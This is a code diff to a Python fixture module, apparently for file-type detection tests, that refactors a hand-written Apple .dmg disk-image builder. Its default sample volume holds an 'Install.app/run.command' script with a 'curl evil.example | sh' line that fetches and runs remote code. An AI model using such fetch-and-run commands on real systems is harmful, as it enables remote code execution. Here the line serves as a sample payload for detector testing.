@@ -212,34 +212,46 @@ def append_to_image(kind: str, payload: bytes) -> bytes:
 
 def make_dmg(volume: bytes | None = None, compress: bool = True, chunk_sectors: int = 2048) -> bytes:
     """An Apple UDIF disk image (.dmg) of the disk `volume` (default: a FAT volume with one file),
-    written by hand from the UDIF layout: the data fork as zlib-compressed (UDZO) or raw (UDRO)
-    chunks, the XML property list whose `blkx` entry holds the base64 `mish` block table, and
-    the 512-byte `koly` trailer. libmagic sees only "zlib compressed data"; magika knows it."""
-    import base64
+    its data fork as zlib-compressed (UDZO) or raw (UDRO) chunks. libmagic sees only "zlib
+    compressed data"; magika knows it."""
     import zlib
 
     if volume is None:
         volume = make_fat({"Install.app/run.command": b"#!/bin/sh\ncurl evil.example | sh\n"})
     volume = volume.ljust(-(-len(volume) // 512) * 512, b"\0")
-    sectors = len(volume) // 512
     data, chunks = b"", []
-    for first in range(0, sectors, chunk_sectors):
+    for first in range(0, len(volume) // 512, chunk_sectors):
         raw = volume[first * 512:(first + chunk_sectors) * 512]
         packed = zlib.compress(raw) if compress else raw
-        chunks.append(struct.pack(">IIQQQQ", 0x80000005 if compress else 1, 0, first, len(raw) // 512, len(data), len(packed)))
+        chunks.append((UDIF_ZLIB if compress else UDIF_RAW, first, len(raw) // 512, len(data), len(packed)))
         data += packed
-    chunks.append(struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors, 0, len(data), 0))  # the terminator
+    return udif(data, chunks)
+
+
+UDIF_RAW, UDIF_ZLIB = 0x00000001, 0x80000005
+
+
+def udif(data_fork: bytes, chunks: list[tuple[int, int, int, int, int]]) -> bytes:
+    """A UDIF image written by hand from its layout: the data fork, the XML property list whose
+    `blkx` entry holds the base64 `mish` block table (chunks of (type, first sector, sectors,
+    offset in the data fork, length), then the terminator), and the 512-byte `koly` trailer."""
+    import base64
+
+    sectors = max((first + count for _, first, count, _, _ in chunks), default=0)
+    table = [struct.pack(">IIQQQQ", kind, 0, first, count, offset, length) for kind, first, count, offset, length in chunks]
+    table.append(struct.pack(">IIQQQQ", 0xFFFFFFFF, 0, sectors, 0, len(data_fork), 0))
     mish = (struct.pack(">4sIQQQII", b"mish", 1, 0, sectors, 0, 0, 0) + bytes(24) + struct.pack(">II", 2, 32) + bytes(128)
-            + struct.pack(">I", len(chunks)) + b"".join(chunks))
+            + struct.pack(">I", len(table)) + b"".join(table))
     name = "disk image (DOS_FAT_12 : 1)"
     plist = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
              '"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>resource-fork</key>'
              '<dict><key>blkx</key><array><dict><key>Attributes</key><string>0x0050</string>'
              f'<key>CFName</key><string>{name}</string><key>Data</key><data>{base64.b64encode(mish).decode()}</data>'
              f'<key>ID</key><string>0</string><key>Name</key><string>{name}</string></dict></array></dict></dict></plist>\n').encode()
-    koly = struct.pack(">4sIIIQQQQQII16sII128sQQ120sII128sIQ12s", b"koly", 4, 512, 1, 0, 0, len(data), 0, 0, 1, 1, bytes(16),
-                       0, 0, bytes(128), len(data), len(plist), bytes(120), 0, 0, bytes(128), 1, sectors, bytes(12))
-    return data + plist + koly
+    koly = struct.pack(">4sIIIQQQQQII16sII128sQQ120sII128sIQ12s", b"koly", 4, 512, 1, 0, 0, len(data_fork), 0, 0, 1, 1,
+                       bytes(16), 0, 0, bytes(128), len(data_fork), len(plist), bytes(120), 0, 0, bytes(128), 1, sectors,
+                       bytes(12))
+    return data_fork + plist + koly
 
 
 def make_udf(files: dict[str, bytes]) -> bytes:
